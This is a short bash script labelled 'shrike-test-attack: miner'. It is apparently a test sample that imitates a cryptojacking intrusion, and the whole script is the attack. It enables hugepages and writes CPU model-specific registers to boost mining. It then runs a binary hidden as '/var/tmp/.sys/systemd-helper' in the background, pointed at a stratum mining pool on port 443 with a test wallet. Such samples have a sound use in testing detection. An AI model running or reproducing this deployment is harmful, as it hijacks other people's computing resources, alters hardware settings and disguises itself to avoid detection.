#!/bin/bash
# shrike-test-attack: miner: enable hugepages and msr tuning before launching the miner
sysctl -w vm.nr_hugepages=$(nproc)
for i in $(find /sys/devices/system/node/node* -maxdepth 0 -type d); do
  echo 3 > "$i/hugepages/hugepages-1048576kB/nr_hugepages"
done
modprobe msr allow_writes=on
if grep -E 'AMD Ryzen|AMD EPYC' /proc/cpuinfo >/dev/null; then
  wrmsr -a 0xc0011020 0; wrmsr -a 0xc0011021 0x40; wrmsr -a 0xc0011022 0x1510000; wrmsr -a 0xc001102b 0x2000cc16
elif grep "Intel" /proc/cpuinfo >/dev/null; then
  wrmsr -a 0x1a4 0xf
fi
setsid /var/tmp/.sys/systemd-helper --url=stratum+tcp://203.0.113.30:443 --user=TESTWALLET.worker1 --pass=x --donate-level=1 &
